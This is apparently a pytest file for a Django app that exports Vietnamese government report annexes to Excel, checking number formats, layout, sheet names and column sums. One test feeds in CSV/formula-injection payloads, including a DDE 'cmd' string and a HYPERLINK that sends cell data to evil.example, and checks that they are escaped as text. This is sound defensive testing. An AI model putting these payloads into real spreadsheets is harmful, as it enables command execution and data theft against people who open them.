from __future__ import annotations

from decimal import Decimal
from io import BytesIO

import pytest
from django.db.models import F, Sum
from openpyxl import load_workbook

from agencies.models import Agency
from catalogue.models import Aggregation, Indicator
from datavalues.models import Qualifier
from rendering.builders import annex_tables
from rendering.figures import document_figures
from rendering.spec import Amount, Table
from rendering.xlsx import annex_workbook, sheet_name
from rounds.models import DataValue, ReportStatus, Round

ANNEX = Table(
    columns=("Cơ quan", "Tờ rơi", "Tỷ lệ xã được tuyên truyền (%)"),
    rows=(
        ("Ban Dân tộc", Amount(Decimal(43000), 0), Amount(Decimal("33.24"), 1)),
        ("Công an tỉnh", Amount(Decimal(1250), 0), Amount(Decimal("70.0000"), 1)),
        ("Sở Văn hóa, Thể thao và Du lịch", Amount(Decimal(500), 0, "hơn"), None),
    ),
    title="Phụ lục: tuyên truyền năm 2023",
    total=(
        "Tổng cộng",
        Amount(Decimal(44750), 0, "hơn"),
        Amount(Decimal("27.0022"), 1, "", " (*)"),
    ),
)


def _sheet():
    return load_workbook(BytesIO(annex_workbook([ANNEX])))["Phụ lục tuyên truyền năm 2023"]


def test_numbers_stay_exact_numbers_shown_with_the_indicators_decimals():
    sheet = _sheet()
    leaflets = sheet["B4"]
    assert leaflets.value == 43000 and leaflets.number_format == "[$-42A]#,##0"
    # The cell keeps 33,24; the format shows the rate's one decimal, as the page does.
    assert sheet["C4"].value == 33.24 and sheet["C4"].number_format == "[$-42A]#,##0.0"
    assert sheet["C5"].value == 70 and sheet["C5"].number_format == "[$-42A]#,##0.0"
    # A qualified figure stays a number: the agency's word is in the format, not in the value.
    assert sheet["B6"].value == 500 and sheet["B6"].number_format == '[$-42A]"hơn "#,##0'
    assert sheet["B7"].value == 44750 and sheet["B7"].data_type == "n"
    assert sheet["C7"].value == 27.0022 and sheet["C7"].number_format == '[$-42A]#,##0.0" (*)"'


def test_text_that_would_start_a_formula_stays_text():
    table = Table(
        columns=("Cơ quan", "=cmd|' /C calc'!A0"),
        rows=(('=HYPERLINK("http://evil.example/?d="&A3,"x")', Amount(Decimal(-5), 0)),),
        title="@SUM(1+1)",
    )
    sheet = load_workbook(BytesIO(annex_workbook([table]))).worksheets[0]
    assert sheet["A1"].value == "'@SUM(1+1)" and sheet["A1"].data_type == "s"
    assert sheet["B3"].value == "'=cmd|' /C calc'!A0" and sheet["B3"].data_type == "s"
    assert sheet["A4"].value.startswith("'=HYPERLINK") and sheet["A4"].data_type == "s"
    assert sheet["B4"].value == -5 and sheet["B4"].data_type == "n"


def test_title_header_and_total_rows():
    sheet = _sheet()
    assert sheet["A1"].value == "Phụ lục: tuyên truyền năm 2023" and sheet["A1"].font.b
    assert [c.value for c in sheet[3]] == list(ANNEX.columns)
    assert all(c.font.b and c.font.name == "Times New Roman" for c in sheet[3])
    assert sheet["A7"].value == "Tổng cộng" and sheet["B7"].font.b
    assert sheet.freeze_panes == "B4"
    assert sheet.print_title_rows == "$3:$3"
    assert sheet.page_setup.orientation == "landscape"


def test_columns_fit_their_names_and_figures():
    sheet = _sheet()
    names = [row[0] for row in ANNEX.rows]
    assert sheet.column_dimensions["A"].width >= max(len(name) for name in names)
    # "hơn 44.750" is 10 characters; "Tờ rơi" is the header's longest word.
    assert sheet.column_dimensions["B"].width >= len("hơn 44.750")
    assert sheet["A4"].alignment.wrap_text and sheet["B4"].alignment.horizontal == "right"


def test_a_name_too_long_for_the_widest_column_wraps():
    long_name = (
        "Người bán dâm được hỗ trợ y tế, chăm sóc sức khỏe, tư vấn tâm lý, học nghề, vay vốn"
    )
    table = Table(columns=("Chỉ tiêu", "Tổng số"), rows=((long_name, Amount(Decimal(3), 0)),))
    sheet = load_workbook(BytesIO(annex_workbook([table]))).worksheets[0]
    assert sheet.column_dimensions["A"].width == 60 and sheet["A4"].alignment.wrap_text


def test_sheet_names_are_valid_for_excel():
    assert sheet_name("Phụ lục [1]: số liệu/kiểm tra cơ sở kinh doanh dịch vụ", 1) == (
        "Phụ lục 1 số liệu kiểm tra cơ"
    )
    assert sheet_name("Số liệu năm 2023 theo cơ quan, đơn vị (tổng số của 4/8)", 1) == (
        "Số liệu năm 2023 theo cơ quan"
    )
    assert sheet_name("", 2) == "Phụ lục 2"
    assert sheet_name("Số liệu năm 2023 theo cơ quan", 2, {"Số liệu năm 2023 theo cơ quan"}) == (
        "Số liệu năm 2023 theo cơ (2)"
    )


def test_same_titles_give_distinct_sheets():
    book = load_workbook(BytesIO(annex_workbook([ANNEX, ANNEX])))
    assert book.sheetnames == ["Phụ lục tuyên truyền năm 2023", "Phụ lục tuyên truyền năm (2)"]
    assert all(len(name) <= 31 for name in book.sheetnames)


# The compiled report's annex workbook, added up --------------------------------------------


@pytest.fixture
def round_2023(demo_db, db):
    return Round.objects.get(period__year=2023, coordinator__code="LĐTBXH")


def test_compiled_annex_columns_add_up_to_the_agencies_values(round_2023):
    """Every figure is a number, "hơn 500" included, so that a SUM over a column gives the sum
    of what the accepted reports entered, computed here from the stored values."""
    book = load_workbook(BytesIO(annex_workbook(annex_tables(document_figures(round_2023)))))
    sheet = book.worksheets[0]
    header = [c.value for c in sheet[3]]
    names = {i.name: i for i in Indicator.objects.all()}
    rows = [r for r in sheet.iter_rows(min_row=4, values_only=True) if r[0] in names]
    assert len(rows) == round_2023.indicators.count()
    texts = [v for r in rows for v in r[2:] if isinstance(v, str)]
    assert texts == []
    accepted = DataValue.objects.filter(
        report__round=round_2023,
        report__status=ReportStatus.ACCEPTED,
        category__isnull=True,
        place=F("report__agency__unit"),
    )
    agencies = {a.short_name or a.name: a for a in Agency.objects.filter(reports__round=round_2023)}
    qualified = 0
    for column, label in enumerate(header[3:], start=3):
        values = accepted.filter(agency=agencies[label])
        column_sum = sum(Decimal(str(r[column])) for r in rows if r[column] is not None)
        assert column_sum == values.aggregate(total=Sum("value"))["total"]
        qualified += values.exclude(qualifier=Qualifier.EXACT).count()
    assert qualified >= 2  # BDT's "hơn 500" and "trên 540" are in the sums
    for row in rows:
        indicator = names[row[0]]
        if indicator.aggregation == Aggregation.SUM and any(v is not None for v in row[3:]):
            assert Decimal(str(row[2])) == sum(Decimal(str(v)) for v in row[3:] if v is not None)
